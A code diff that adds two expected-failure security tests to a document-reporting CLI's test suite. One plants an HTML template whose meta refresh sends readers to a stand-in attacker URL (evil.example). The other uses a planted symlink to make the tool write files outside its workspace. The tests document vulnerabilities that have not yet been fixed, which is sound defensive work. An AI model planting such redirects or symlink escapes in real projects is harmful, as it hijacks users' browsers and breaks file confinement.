@@ -78,3 +78,43 @@ def test_a_single_slow_filter_is_held_to_the_deadline(monkeypatch):
     except OptionsError:
         pass
     assert time.monotonic() - start < 2.0
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a workspace HTML template's <meta http-equiv=refresh> survives into the paper; the "
+    "CSP does not govern navigation, so opening the paper sends the browser to the stranger's "
+    "URL (paper/sandbox.py render_html)",
+)
+def test_html_paper_from_a_workspace_template_cannot_navigate_away(tmp_path, run):
+    root = _ws(tmp_path)
+    (root / "templates").mkdir()
+    (root / "templates" / "paper.html.j2").write_text(
+        '<!doctype html><html><head><meta http-equiv="refresh" '
+        'content="0;url=https://evil.example/?opened"></head><body>{{ doc.title }}</body></html>',
+        encoding="utf-8",
+    )
+    out = tmp_path / "out" / "p"
+    out.parent.mkdir()
+    result = run("report", "-p", str(root), "-w", "even", "-f", "html", "-o", str(out))
+    html = (tmp_path / "out" / "p.html").read_text(encoding="utf-8") if result.exit_code == 0 else ""
+    assert result.exit_code == 1 or "refresh" not in html.lower()
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a planted weights/ link to a folder outside makes `options elicit` write the new "
+    "weights file outside the workspace (cli elicit target; the folder is not confined)",
+)
+def test_elicit_does_not_write_through_a_linked_weights_folder(tmp_path, run):
+    root = _ws(tmp_path)
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    for p in (root / "weights").iterdir():
+        p.unlink()
+    (root / "weights").rmdir()
+    (root / "weights").symlink_to(outside)
+    answers = tmp_path / "answers.txt"
+    answers.write_text("1 2 3\n" + "50\n" * 60, encoding="utf-8")
+    run("elicit", "-p", str(root), "newcomer", "--answers", str(answers))
+    assert list(outside.iterdir()) == []
